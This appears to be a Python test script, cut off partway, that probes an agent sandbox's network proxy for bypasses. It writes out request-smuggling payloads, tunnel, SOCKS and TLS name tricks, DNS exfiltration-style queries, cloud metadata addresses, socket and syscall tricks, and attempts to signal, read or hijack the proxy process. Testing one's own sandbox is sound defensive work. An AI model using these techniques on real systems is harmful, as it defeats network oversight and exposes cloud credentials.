# SPDX-License-Identifier: MIT
"""More ways around the network policy; runs inside a session.

usage: bypass_more.py CA_FILE WORKSPACE [open CLASS...]	(see attempts.py)
"""
import ctypes
import errno
import os
import signal
import socket
import struct
import subprocess
import time

from attempts import (EVIL, EVIL6, META, OPEN, PATIENCE, PRIVATE, PROXY, WEB,
                      attempt, everything, hello, libc, query, system_call, talk,
                      udp, via_proxy)

CRLF = b"\r\n"


def reached(*parts, shut=True):
    data = everything(*parts, shut=shut)
    return data if b"host=evil.test path" in data else None


# --- requests that are read in two ways ------------------------------------

HEAD = b"GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n"
POST = b"POST" + HEAD[3:]
INNER = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
ORIGIN = b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
for name, text in {
        # framing
        "coding twice": POST + b"Transfer-Encoding: chunked, chunked\r\n\r\n"
                        b"0\r\n\r\n" + ORIGIN,
        "coding with a nul": POST + b"Transfer-Encoding: \0chunked\r\n"
                             b"Content-Length: 3\r\n\r\nabc" + ORIGIN,
        "coding folded": POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n"
                         b"0\r\n\r\n" + ORIGIN,
        "coding quoted": POST + b"Transfer-Encoding: \"chunked\"\r\n\r\n"
                         b"0\r\n\r\n" + ORIGIN,
        "coding with a parameter": POST + b"Transfer-Encoding: chunked;q=1\r\n"
                                   b"\r\n0\r\n\r\n" + ORIGIN,
        "coding in 1.0": CHUNKED.replace(b"1.1", b"1.0", 1) + b"0\r\n\r\n" +
                         ORIGIN,
        "coding of underscores": POST + b"Transfer_Encoding: chunked\r\n"
                                 b"Content-Length: 5\r\n\r\n0\r\n\r\n" + ORIGIN,
        "coding nominated": POST + b"Transfer-Encoding: chunked\r\n"
                            b"Connection: Transfer-Encoding\r\n\r\n0\r\n\r\n" +
                            ORIGIN,
        "length nominated": POST + b"Content-Length: 0\r\n"
                            b"Connection: Content-Length\r\n\r\n" + ORIGIN,
        "length empty": POST + b"Content-Length:\r\n\r\n" + ORIGIN,
        "length with a blank": POST + b"Content-Length: 1 0\r\n\r\n" + ORIGIN,
        "length huge": POST + b"Content-Length: 99999999999999999999\r\n\r\n" +
                       ORIGIN,
        "length of a get": HEAD + b"Content-Length: %d\r\n\r\n" % len(ORIGIN) +
                           ORIGIN,
        "no length": POST + CRLF + ORIGIN,
        # chunks
        "chunk hex prefix": CHUNKED + b"0x0\r\n\r\n" + ORIGIN,
        "chunk plus": CHUNKED + b"+0\r\n\r\n" + ORIGIN,
        "chunk blank": CHUNKED + b"0 \r\n\r\n" + ORIGIN,
        "chunk blank first": CHUNKED + b" 0\r\n\r\n" + ORIGIN,
        "chunk underscore": CHUNKED + b"0_0\r\n\r\n" + ORIGIN,
        "chunk bare lf": CHUNKED + b"0\n\n" + ORIGIN,
        "chunk bare cr": CHUNKED + b"0\r\r" + ORIGIN,
        "chunk extension lf": CHUNKED + b"0;a\n\r\n\r\n" + ORIGIN,
        "chunk extension cr": CHUNKED + b"2;\rxx\r\n4c\r\n0\r\n\r\n" + ORIGIN,
        "chunk extension quoted": CHUNKED + b"0;a=\"\r\n\r\n\"" + ORIGIN,
        "chunk extension long": CHUNKED + b"0;" + b"a" * 5000 + b"\r\n\r\n" +
                                ORIGIN,
        "chunk without end": CHUNKED + b"3\r\nabcX\r\n0\r\n\r\n" + ORIGIN,
        "chunk end short": CHUNKED + b"3\r\nabc\n0\r\n\r\n" + ORIGIN,
        "trailer is a host": CHUNKED + b"0\r\nHost: evil.test\r\n\r\n",
        "trailer is a request": CHUNKED + b"0\r\nGET / HTTP/1.1\r\n"
                                b"Host: evil.test\r\n\r\n",
        "trailer folded": CHUNKED + b"0\r\nA: b\r\n Host: evil.test\r\n\r\n",
        # heads
        "bare lf": HEAD.replace(CRLF, b"\n") + b"\n" + INNER,
        "lf cr": HEAD + b"X: a\n\rHost: evil.test\r\n\r\n",
        "leading line": b"\r\n" + INNER, "leading blank": b" " + INNER,
        "nul first": b"\0" + INNER,
        "header nul": HEAD + b"X: \0\r\nHost: evil.test\r\n\r\n",
        "header vertical tab": HEAD + b"X: \x0bHost: evil.test\r\n\r\n",
        "header without colon": HEAD + b"Host evil.test\r\n\r\n",
        "header of latin": HEAD + b"Ho\xb2st: evil.test\r\n\r\n",
        "host twice": HEAD + b"HOST: evil.test\r\n\r\n",
        "host empty twice": b"GET / HTTP/1.1\r\nHost:\r\nHost: evil.test\r\n\r\n",
        "host folded": b"GET http://good.test/ HTTP/1.1\r\n"
                       b"Host:\r\n\tevil.test\r\n\r\n",
        "host of two": b"GET http://good.test/ HTTP/1.1\r\n"
                       b"Host: good.test, evil.test\r\n\r\n",
        "host differs": b"GET http://good.test/ HTTP/1.1\r\n"
                        b"Host: evil.test\r\n\r\n",
        "host nominated": b"GET http://good.test/ HTTP/1.1\r\n"
                          b"Host: evil.test\r\nConnection: Host\r\n\r\n",
        "forwarded host": HEAD + b"Connection: close\r\n\r\n" + INNER,
        "version 1.2": INNER.replace(b"1.1", b"1.2"),
        "version 2.0": INNER.replace(b"1.1", b"2.0"),
        "version 0.9": b"GET http://evil.test/ HTTP/0.9\r\n\r\n",
        "version blank": INNER.replace(b"HTTP/1.1", b"HTTP/1.1 "),
        "two blanks": INNER.replace(b" http", b"  http"),
        "tab": INNER.replace(b" http", b"\thttp"),
        "h2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 9 + INNER,
        "h2c upgrade": INNER[:-2] + b"Connection: Upgrade, HTTP2-Settings\r\n"
                       b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
        "h2c of a good one": HEAD + b"Connection: Upgrade, HTTP2-Settings\r\n"
                             b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"
                             b"\r\n" + INNER,
        "websocket that is none": HEAD + b"Connection: Upgrade\r\n"
                                  b"Upgrade: websocket\r\n\r\n" + ORIGIN,
        "expect": POST + b"Expect: 100-continue\r\nContent-Length: 0\r\n\r\n" +
                  ORIGIN,
        "expect more": POST + b"Expect: 200-ok\r\nContent-Length: 3\r\n\r\nabc" +
                       ORIGIN,
        "expect and none": HEAD + b"Expect: 100-continue\r\n\r\n" + ORIGIN,
        "head with a body": b"HEAD" + HEAD[3:] + b"Content-Length: 3\r\n\r\nabc"
                            + ORIGIN,
        "trace": b"TRACE" + INNER[3:], "options": b"OPTIONS * HTTP/1.1\r\n"
                                                  b"Host: evil.test\r\n\r\n",
        # targets
        "upper scheme": INNER.replace(b"http://", b"HTTP://", 1),
        "scheme only": INNER.replace(b"http://", b"http:", 1),
        "no slash": b"GET evil.test HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "authority": b"GET evil.test:80 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "net path": b"GET //evil.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n",
        "backslashes": INNER.replace(b"//", b"\\\\", 1),
        "ftp": INNER.replace(b"http://", b"ftp://", 1),
        "websocket scheme": INNER.replace(b"http://", b"ws://", 1),
        "question before host": b"GET http://good.test?@evil.test/ HTTP/1.1\r\n"
                                b"Host: evil.test\r\n\r\n",
        "user and password": INNER.replace(b"//evil", b"//good.test:80@evil",
                                           1),
        "two users": INNER.replace(b"//evil", b"//a@good.test@evil", 1),
        "two ports": INNER.replace(b"evil.test/", b"evil.test:80:80/", 1),
        "empty port": INNER.replace(b"evil.test/", b"evil.test:/", 1),
        "port of zeros": INNER.replace(b"evil.test/", b"evil.test:00080/", 1),
        "port wraps": INNER.replace(b"evil.test/", b"evil.test:65616/", 1),
        "percent dot": INNER.replace(b"evil.test/", b"evil%2etest/", 1),
        "percent nul": INNER.replace(b"evil.test/",
                                     b"evil.test%00.good.test/", 1),
        "percent slash": INNER.replace(b"//evil.test/",
                                       b"//evil.test%2f.good.test/", 1),
        "semicolon": INNER.replace(b"//evil.test/", b"//good.test;@evil.test/",
                                   1),
        # CONNECT
        "connect with a scheme": b"CONNECT http://evil.test:80 HTTP/1.1\r\n"
                                 b"Host: evil.test:80\r\n\r\n" + ORIGIN,
        "connect with a path": b"CONNECT evil.test:80/ HTTP/1.1\r\n"
                               b"Host: evil.test:80\r\n\r\n" + ORIGIN,
        "connect without port": b"CONNECT evil.test HTTP/1.1\r\n"
                                b"Host: evil.test\r\n\r\n" + ORIGIN,
        "connect with a user": b"CONNECT good.test@evil.test:80 HTTP/1.1\r\n"
                               b"Host: good.test:80\r\n\r\n" + ORIGIN,
        "connect host differs": b"CONNECT good.test:80 HTTP/1.1\r\n"
                                b"Host: evil.test:80\r\n\r\n" + ORIGIN,
        "connect refused, then on": b"CONNECT evil.test:80 HTTP/1.1\r\n"
                                    b"Host: evil.test:80\r\n\r\n" + ORIGIN,
        "connect refused, then proxied": b"CONNECT evil.test:80 HTTP/1.1\r\n"
                                         b"Host: evil.test:80\r\n\r\n" + INNER,
        "connect chunked": b"CONNECT evil.test:80 HTTP/1.1\r\n"
                           b"Host: evil.test:80\r\n"
                           b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" +
                           ORIGIN,
        "connect lower case": b"connect evil.test:80 HTTP/1.1\r\n"
                              b"Host: evil.test:80\r\n\r\n" + ORIGIN,
        "connect 1.0": b"CONNECT evil.test:80 HTTP/1.0\r\n\r\n" + ORIGIN}.items():
    attempt("desync/" + name, lambda: reached(text))
    attempt("desync/slowly " + name,
            lambda: reached(*(text[i:i + 40] for i in range(0, len(text), 40))))


def left_over():
    """The answer to a request that was another one's body: it comes when the
    connection has got its next request (internet.py, /late)."""
    late = ORIGIN.replace(b"/", b"/late", 1)
    text = HEAD + b"Content-Length: %d\r\n\r\n" % len(late) + late
    return reached(text) or reached(HEAD + b"Connection: close\r\n\r\n")


attempt("desync/answer left over", left_over)

# --- plain HTTP inside a tunnel: whose host? --------------------------------


def socks(host, *data):
    """What comes back through SOCKS5 to a name, port 80."""
    return everything(b"\5\1\0", b"\5\1\0\3" + bytes([len(host)]) + host +
                      b"\0\x50", *data)


TUNNEL = b"CONNECT good.test:80 HTTP/1.1\r\nHost: good.test:80\r\n\r\n"
for name, text in {
        "other host": ORIGIN,
        "absolute": b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "after lines": b"\r\n\r\n" + ORIGIN, "after a line feed": b"\n" + ORIGIN,
        "second one": b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n" + ORIGIN,
        "no version": b"GET /\r\nHost: evil.test\r\n\r\n",
        "1.0 with host": ORIGIN.replace(b"1.1", b"1.0"),
        "host twice": b"GET / HTTP/1.1\r\nHost: good.test\r\n"
                      b"Host: evil.test\r\n\r\n",
        "made method": b"X-Y" + ORIGIN[3:],
        "upgrade first": b"GET / HTTP/1.1\r\nHost: good.test\r\n"
                         b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n" +
                         ORIGIN}.items():
    attempt("tunnel/connect " + name, lambda: reached(TUNNEL, text))
    attempt("tunnel/one piece " + name, lambda: reached(TUNNEL + text))
    attempt("tunnel/bytewise " + name, lambda: reached(
        TUNNEL, *(text[i:i + 1] for i in range(len(text)))))

    def by_socks():
        data = socks(b"good.test", text)
        return data if b"host=evil.test path" in data else None

    attempt("tunnel/socks " + name, by_socks)


def waiting():
    """The method alone, and the rest when it has gone on."""
    s = socket.create_connection(PROXY, PATIENCE)
    s.settimeout(1)
    s.sendall(TUNNEL)
    s.recv(1000)
    data = b""
    try:
        for part in (b"G", ORIGIN[1:]):
            s.sendall(part)
            time.sleep(0.4)
        while part := s.recv(1000):
            data += part
    except OSError:
        pass
    return data if b"host=evil.test path" in data else None


attempt("tunnel/method, then the rest", waiting)

# --- SOCKS -----------------------------------------------------------------

for name, parts in {
        "version 4": [b"\4\1\0\x50" + socket.inet_aton(EVIL) + b"me\0", ORIGIN],
        "version 4a": [b"\4\1\0\x50\0\0\0\1me\0evil.test\0", ORIGIN],
        "all at once": [b"\5\1\0\5\1\0\1" + socket.inet_aton(EVIL) + b"\0\x50" +
                        ORIGIN],
        "second request": [b"\5\1\0", b"\5\1\0\3\x09evil.test\0\x50",
                           b"\5\1\0\3\x09good.test\0\x50", ORIGIN],
        "empty name": [b"\5\1\0", b"\5\1\0\3\0\0\x50", ORIGIN],
        "long name": [b"\5\1\0", b"\5\1\0\3\xff" + b"a." * 123 +
                      b"evil.test\0\x50", ORIGIN],
        "address as name": [b"\5\1\0", b"\5\1\0\3\x0f169.254.169.254\0\x50",
                            ORIGIN],
        "address six": [b"\5\1\0", b"\5\1\0\4" + socket.inet_pton(
            socket.AF_INET6, EVIL6) + b"\0\x50", ORIGIN],
        "bind": [b"\5\1\0", b"\5\2\0\1" + socket.inet_aton(EVIL) + b"\0\x50"],
        "associate": [b"\5\1\0", b"\5\3\0\1\0\0\0\0\0\0"],
        "password": [b"\5\1\2", b"\1\1a\1b", b"\5\1\0\3\x09evil.test\0\x50",
                     ORIGIN],
        "reserved": [b"\5\1\0", b"\5\1\1\3\x09evil.test\0\x50", ORIGIN]}.items():
    def socks_attempt():
        data = everything(*parts)
        return data if b"host=" in data or b"\5\0\0\1" in data[2:8] else None

    attempt("socks/" + name, socks_attempt)

# --- TLS server names ------------------------------------------------------

EVIL_HELLO = hello(b"evil.test")


def records(size):
    body, out = EVIL_HELLO[5:], b""
    for i in range(0, len(body), size):
        part = body[i:i + size]
        out += b"\x16\3\1" + struct.pack(">H", len(part)) + part
    return out


def two_types(first):
    """Server names of two types in one list."""
    names = ((1, b"x"), (0, b"evil.test")) if first else \
        ((0, b"evil.test"), (1, b"x"))
    sni = b"".join(bytes([t]) + struct.pack(">H", len(n)) + n for t, n in names)
    sni = struct.pack(">H", len(sni)) + sni
    return hello(b"", struct.pack(">HH", 0, len(sni)) + sni)


def old_hello():
    """An SSLv2 one: OpenSSL once took these; it has no server name."""
    body = b"\1\3\3\0\3\0\0\0\x10" + b"\0\0\x2f" + b"r" * 16
    return struct.pack(">H", 0x8000 | len(body)) + body


for name, parts in {
        "records of one byte": [records(1)], "records of seven": [records(7)],
        "segments of one byte": [EVIL_HELLO[i:i + 1]
                                 for i in range(len(EVIL_HELLO))],
        "two name types": [two_types(True)], "two name types after":
        [two_types(False)],
        "change of cipher first": [b"\x14\3\3\0\1\1" + EVIL_HELLO],
        "warning first": [b"\x15\3\3\0\2\1\x5a" + EVIL_HELLO],
        "data first": [b"\x17\3\3\0\1x" + EVIL_HELLO],
        "hello request first": [b"\x16\3\1\0\4\0\0\0\0" + EVIL_HELLO],
        "hello request in it": [b"\x16\3\1" + struct.pack(
            ">H", len(EVIL_HELLO) - 1) + b"\0\0\0\0" + EVIL_HELLO[5:]],
        "version 2": [old_hello()], "version 3.4": [EVIL_HELLO.replace(
            b"\x16\3\1", b"\x16\3\4", 1)],
        "version 0.0": [b"\x16\0\0" + EVIL_HELLO[3:]],
        "dot at the end": [hello(b"evil.test.")],
        "upper case": [hello(b"EVIL.test")],
        "of a sub name": [hello(b"a.good.test.evil.test")],
        "with a port": [hello(b"evil.test:443")],
        "blank": [hello(b"good.test evil.test")],
        "punycode": [hello(b"xn--gd-xka.test")],
        "bytes above": [hello("evil\u3002test".encode())],
        "very long": [hello(b"a" * 300 + b".evil.test")],
        "two extensions": [hello(b"good.test", b"\0\0\0\x0e\0\x0c\0\0\x09"
                                 b"evil.test")],
        "good, then evil": [hello(b"good.test"), EVIL_HELLO],
        "good with evil in one record": [
            b"\x16\3\1" + struct.pack(">H", 2 * len(EVIL_HELLO) - 10) +
            hello(b"good.test")[5:] + EVIL_HELLO[5:]]}.items():
    def tunnel():
        data = everything(b"CONNECT good.test:443 HTTP/1.1\r\n"
                          b"Host: good.test:443\r\n\r\n", *parts)
        after = data[data.find(b"\r\n\r\n") + 4:]
        # of two hellos the first may be answered; a second answer may not be
        if name.startswith("good, then"):
            return data if after.count(b"\x16\3\3") > 1 and \
                b"evil" in after else None
        return data if after[:1] == b"\x16" else None

    attempt("sni/" + name, tunnel)

# --- names that are asked for ----------------------------------------------

HEADER = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
GOOD = b"\4good\4test\0"
BAD = b"\4evil\4test\0"


def over_tcp(q, split=0):
    s = socket.socket()
    s.settimeout(PATIENCE)
    s.connect(("8.8.8.8", 53))
    data = struct.pack(">H", len(q)) + q
    for i in range(0, len(data), split or len(data)):
        s.sendall(data[i:i + (split or len(data))])
    a = s.recv(4096)
    return a if a[8:10] != b"\0\0" else None


def letters(i, n):
    """n bytes that look like data."""
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"
    out = ""
    for k in range(n):
        i = (i * 1103515245 + 12345 + k) & 0x7fffffff
        out += alphabet[i >> 16 & 31]
    return out


def looked_up(labels):
    """The answer, if it was not refused: then somebody was asked."""
    a = query(".".join(labels) + ".deep.test", full=True)
    return a if isinstance(a, str) or a[3] & 15 != 5 else None


for name, function in {
        "by tcp": lambda: over_tcp(HEADER + BAD + b"\0\1\0\1"),
        "by tcp in pieces": lambda: over_tcp(HEADER + BAD + b"\0\1\0\1", 3),
        "by tcp, two": lambda: over_tcp(
            HEADER + BAD + b"\0\1\0\1" + b"\0\x1b" + HEADER + GOOD +
            b"\0\1\0\1"),
        "chaos class": lambda: query("", raw=HEADER + BAD + b"\0\x10\0\3"),
        "any class": lambda: query("", raw=HEADER + BAD + b"\0\1\0\xff"),
        "update": lambda: query("", raw=HEADER[:2] + b"\x28\0" + HEADER[4:] +
                                BAD + b"\0\6\0\1"),
        "response": lambda: query("", raw=HEADER[:2] + b"\x81\x80" +
                                  HEADER[4:] + BAD + b"\0\1\0\1"),
        "no question": lambda: query("", raw=HEADER[:4] + b"\0\0" + HEADER[6:] +
                                     BAD + b"\0\1\0\1"),
        "pointer in it": lambda: query("", raw=HEADER + b"\4evil\xc0\x12" +
                                       b"\0\1\0\1"),
        "option with data": lambda: query("evil.test", extra=b"\0\0\x29\x10\0"
                                          b"\0\0\0\0\0\x10\xfd\xe9\0\x0c" +
                                          b"0123456789ab"),
        "svcb": lambda: query("evil.test", 64),
        "https": lambda: query("evil.test", 65),
        "ptr": lambda: query("254.169.254.169.in-addr.arpa", 12),
        "naptr": lambda: query("good.test", 35),
        "cname": lambda: query("good.test", 5), "mx": lambda: query("good.test",
                                                                    15),
        "dnskey": lambda: query("good.test", 48),
        "upper case": lambda: query("EVIL.Test"),
        "underscore": lambda: query("_dns.resolver.arpa", 64),
        "many labels": lambda: looked_up(letters(i, 20) for i in range(9)),
        "few long labels": lambda: looked_up(letters(i, 23) for i in range(4)),
        "hex labels": lambda: looked_up(["0123456789abcdef012345"] * 4),
        "one letter labels": lambda: looked_up("abcdefghijklmnopqrstuvwxyz" * 4),
        "points at a chain": lambda: query("chain.good.test") and None,
        "chain to private": lambda: via_proxy(
            b"GET http://chain.good.test/ HTTP/1.1\r\n"
            b"Host: chain.good.test\r\n\r\n"),
        "other each time": lambda: [via_proxy(
            b"GET http://flip.good.test/ HTTP/1.1\r\nHost: flip.good.test\r\n"
            b"Connection: close\r\n\r\n") for _ in range(6)] and None,
        "as tls": lambda: talk(socket.socket(), ("8.8.8.8", 853), EVIL_HELLO),
        "as https": lambda: talk(socket.socket(), ("8.8.8.8", 443), EVIL_HELLO),
        "as quic": lambda: udp(("8.8.8.8", 853)),
        "multicast": lambda: udp(("224.0.0.252", 5355)),
        "netbios": lambda: udp(("255.255.255.255", 137))}.items():
    attempt("dns/more: " + name, function)

# --- metadata of every cloud, by every way ---------------------------------

for name, host in {
        "aws six": "fd00:ec2::254", "aws dns": "169.254.169.253",
        "aws time": "169.254.169.123", "ecs": "169.254.170.2",
        "eks": "169.254.170.23", "eks six": "fd00:ec2::23",
        "gcp six": "fd20:ce::254", "azure wire": "168.63.129.16",
        "alibaba": "100.100.100.200", "alibaba dns": "100.100.2.136",
        "oracle": "192.0.0.192", "oracle six": "fd00:c1::a9fe:a9fe",
        "openstack six": "fe80::a9fe:a9fe", "tencent": "169.254.0.23",
        "scaleway": "169.254.42.42", "scaleway six": "fd00:42::42",
        "linode six": "fd00:a9fe:a9fe::1", "rancher": "169.254.169.250",
        "any link local": "169.254.1.1", "nodelocal dns": "169.254.20.10",
        "link local six": "fe80::1", "site local": "fec0::1",
        "translated": "::ffff:0:a9fe:a9fe", "isatap": "fe80::5efe:a9fe:a9fe",
        "docker": "172.17.0.1", "kubernetes": "10.96.0.1",
        "tailscale": "100.100.100.100", "gce name": "metadata.google.internal",
        "gce short": "metadata", "gce goog": "metadata.goog",
        "aws name": "instance-data.ec2.internal", "ibm": "api.metadata.cloud"
        ".ibm.com", "rancher name": "rancher-metadata",
        "docker name": "host.docker.internal",
        "kube name": "kubernetes.default.svc"}.items():
    is_six = ":" in host
    at = (b"[%s]" if is_six else b"%s") % host.encode()
    attempt("clouds/http " + name, lambda: via_proxy(
        b"GET http://%s/latest/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (at, at)))
    attempt("clouds/connect " + name, lambda: via_proxy(
        b"CONNECT %s:80 HTTP/1.1\r\nHost: %s:80\r\n\r\n" % (at, at)))
    if host[0].isdigit() or is_six:
        family = socket.AF_INET6 if is_six else socket.AF_INET
        for port in 80, 53:  # port 53 is the stub's, whatever the address
            attempt(f"clouds/own {name} {port}", lambda: talk(socket.socket(
                family), (host, port), INNER))
        attempt("clouds/datagram " + name, lambda: udp((host, 80), "sendto",
                                                       family))
    elif "names" not in OPEN:
        attempt("clouds/lookup " + name, lambda: query(host))

# --- sockets, turned and bent ----------------------------------------------


def bent(level, option, value, family=socket.AF_INET, to=(EVIL, 80)):
    def function():
        s = socket.socket(family)
        try:
            s.setsockopt(level, option, value)
        except OSError:
            return None  # not given: nothing to use
        return talk(s, to)
    return function


LO = b"lo\0"
attempt("bent/device", bent(socket.SOL_SOCKET, 25, LO))
attempt("bent/mark", bent(socket.SOL_SOCKET, 36, 1))
attempt("bent/repair", bent(6, 19, 1))
attempt("bent/transparent", bent(0, 19, 1))
attempt("bent/freebind", bent(0, 15, 1))
attempt("bent/unicast device", bent(0, 50, socket.htonl(1)))
attempt("bent/six routing header", bent(
    41, 57, struct.pack("BBBBI", 6, 2, 0, 1, 0) + socket.inet_pton(
        socket.AF_INET6, EVIL6), socket.AF_INET6, (EVIL6, 80)))
attempt("bent/six only off", bent(41, 26, 0, socket.AF_INET6,
                                  ("::ffff:" + EVIL, 80)))
attempt("bent/user time-out", bent(6, 18, 1))
attempt("bent/fast open then write", bent(6, 30, 1))


def scoped(host, scope):
    def function():
        s = socket.socket(socket.AF_INET6)
        s.settimeout(PATIENCE)
        s.connect((host, 80, 0, scope))
        return talk(s)
    return function


for scope in 0, 1, 2:
    attempt(f"bent/link local on {scope}", scoped("fe80::1", scope))
    attempt(f"bent/openstack on {scope}", scoped("fe80::a9fe:a9fe", scope))


def four_on_six(call):
    """An IPv4 address on an IPv6 datagram socket: the kernel takes it."""
    def function():
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        at = struct.pack("=HH4s8x", 2, socket.htons(443), socket.inet_aton(EVIL))
        if call == "connect":
            if libc.connect(s.fileno(), at, 16) < 0:
                return None
            return "sent" if libc.send(s.fileno(), b"x" * 9, 9, 0) > 0 else None
        r = libc.sendto(s.fileno(), b"x" * 9, 9, 0, at, 16)
        return "sent" if r > 0 else None
    return function


attempt("bent/four on six connect", four_on_six("connect"))
attempt("bent/four on six sendto", four_on_six("sendto"))


def elsewhere(first):
    """Connected to one place, sent to another."""
    def function():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(first)
        s.sendto(b"x" * 30, (EVIL, 443))
        return "sent"
    return function


attempt("bent/connected to a server, sent elsewhere", elsewhere(("8.8.8.8", 53)))
attempt("bent/connected to loopback, sent elsewhere",
        elsewhere(("127.0.0.1", 9)))


def reconnected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("8.8.8.8", 53))
    libc.connect(s.fileno(), struct.pack("=H14x", 0), 16)
    s.connect((EVIL, 443))
    s.send(b"x" * 30)
    return "sent"


attempt("bent/reconnected", reconnected)


def with_control(level, kind, data):
    def function():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(("8.8.8.8", 53))
        s.sendmsg([b"x" * 30], [(level, kind, data)], 0, (EVIL, 443))
        return "sent"
    return function


attempt("bent/packet info", with_control(0, 8, struct.pack(
    "=i4s4s", 1, socket.inet_aton(WEB), socket.inet_aton(EVIL))))
attempt("bent/source route", with_control(0, 7, bytes([131, 7, 4]) +
                                          socket.inet_aton(EVIL) + b"\0"))
attempt("bent/segments", with_control(17, 103, struct.pack("=H", 10)))


def route_of_a_good_one():
    """Options on a datagram to the stub must not bring it elsewhere."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendmsg([HEADER + BAD + b"\0\1\0\1"],
              [(0, 8, struct.pack("=i4s4s", 0, socket.inet_aton(EVIL),
                                  socket.inet_aton(EVIL)))], 0, ("8.8.8.8", 53))
    return None


attempt("bent/good one with a control message", route_of_a_good_one)


def flags(flag):
    def function():
        s = socket.socket()
        r = s.sendto(b"GET / HTTP/1.0\r\n\r\n", flag, (EVIL, 80))
        s.settimeout(PATIENCE)
        return s.recv(100) if r else None
    return function


for name, flag in {"out of band": 1, "more": 0x8000, "zero copy": 0x4000000,
                   "confirm": 0x800, "fast open and more": 0x20008000,
                   "splice pages": 0x8000000, "high bits": 0x60000000}.items():
    attempt("bent/send " + name, flags(flag))


def raw_call(name, *args):
    return lambda: "done" if system_call(name, *args) >= 0 else None


attempt("bent/io_uring enter", raw_call("io_uring_enter", 0, 0, 0, 0, 0, 0))
attempt("bent/io_uring register", raw_call("io_uring_register", 0, 0, 0, 0))
attempt("bent/bpf", raw_call("bpf", 0, 0, 0))
attempt("bent/x32 connect", lambda: None)  # the filter kills: escape suite


# --- the proxy itself ------------------------------------------------------


def proxies():
    out = []
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and open(f"/proc/{name}/comm").read().startswith(
                    "agentsh-netprox"):
                out.append(int(name))
        except OSError:
            pass
    return out


def signalled(number):
    def function():
        for pid in proxies():
            try:
                os.kill(pid, number)
                return f"signal {number} to {pid}"
            except OSError:
                pass
        return None
    return function


for number in (0, signal.SIGSTOP, signal.SIGUSR1, signal.SIGKILL):
    attempt(f"proxy/signal {number}", signalled(number))


def memory():
    for pid in proxies():
        try:
            return open(f"/proc/{pid}/mem", "rb").read(1)
        except OSError:
            pass
    return None


def take_socket():
    for pid in proxies():
        pidfd = system_call("pidfd_open", pid, 0)
        if pidfd >= 0 and any(system_call("pidfd_getfd", pidfd, fd, 0) >= 0
                              for fd in range(3, 20)):
            return "a descriptor"
    return None


attempt("proxy/memory", memory)
attempt("proxy/descriptors", take_socket)


def take_port(family, host, option):
    """Its port, in front of it."""
    def function():
        s = socket.socket(family)
        for o in option:
            s.setsockopt(socket.SOL_SOCKET, o, 1)
        s.bind((host, PROXY[1]))
        s.listen()
        s.settimeout(0.3)
        for _ in range(8):
            c = socket.create_connection(PROXY, PATIENCE)
            try:
                s.accept()
                return "took a connection"
            except TimeoutError:
                pass
            c.close()
            return None
    return function


REUSE = (socket.SO_REUSEADDR, socket.SO_REUSEPORT)
if "loopback" not in OPEN:
    for name, options in {"plain": (), "address": REUSE[:1], "port": REUSE[1:],
                          "both": REUSE}.items():
        for family, host in ((2, "127.0.0.1"), (2, "0.0.0.0"), (10, "::"),
                             (10, "::ffff:127.0.0.1")):
            attempt(f"proxy/port {name} {host}",
                    take_port(family, host, options))
for name, text in {
        "itself": b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n"
                  % (PROXY[1], PROXY[1]),
        "itself by name": b"GET http://localhost:%d/ HTTP/1.1\r\n"
                          b"Host: localhost:%d\r\n\r\n" % (PROXY[1], PROXY[1]),
        "itself six": b"GET http://[::ffff:127.0.0.1]:%d/ HTTP/1.1\r\n"
                      b"Host: x\r\n\r\n" % PROXY[1],
        "itself as zero": b"GET http://0:%d/ HTTP/1.1\r\nHost: 0\r\n\r\n"
                          % PROXY[1],
        "words of the supervisor": b"\0DIRECT\0" + b"\0" * 16}.items():
    def own():
        data = everything(text)
        return data if b" 200 " in data[:20] else None

    attempt("proxy/" + name, own)

# --- programs --------------------------------------------------------------


def program(*argv, env=None):
    def function():
        try:
            p = subprocess.run(argv, capture_output=True, timeout=PATIENCE,
                               env={**os.environ, **(env or {})},
                               stdin=subprocess.DEVNULL)
        except FileNotFoundError:
            return None
        except subprocess.TimeoutExpired:
            return "no answer"
        return p.stdout if b"host=" in p.stdout.replace(
            b"host=good.test path", b"").replace(b" host=evil.test:", b"") \
            else None
    return function


E80, E443 = "http://evil.test/", "https://evil.test/"
CURL = ("curl", "-ksS", "--max-time", "30")
for name, argv in {
        "curl": CURL + (E80,), "curl tls": CURL + (E443,),
        "curl noproxy": CURL + ("--noproxy", "*", E80),
        "curl resolve": CURL + ("--noproxy", "*", "--resolve",
                                "evil.test:80:" + EVIL, E80),
        "curl resolve good": CURL + ("--noproxy", "*", "--resolve",
                                     "good.test:80:" + EVIL,
                                     "http://good.test/"),
        "curl connect-to": CURL + ("--connect-to",
                                   "good.test:80:evil.test:80",
                                   "http://good.test/"),
        "curl connect-to tls": CURL + ("--connect-to",
                                       "evil.test:443:good.test:443", E443),
        "curl connect-to direct": CURL + ("--noproxy", "*", "--connect-to",
                                          "::" + EVIL + ":443",
                                          "https://good.test/"),
        "curl host header": CURL + ("-H", "Host: evil.test",
                                    "http://good.test/"),
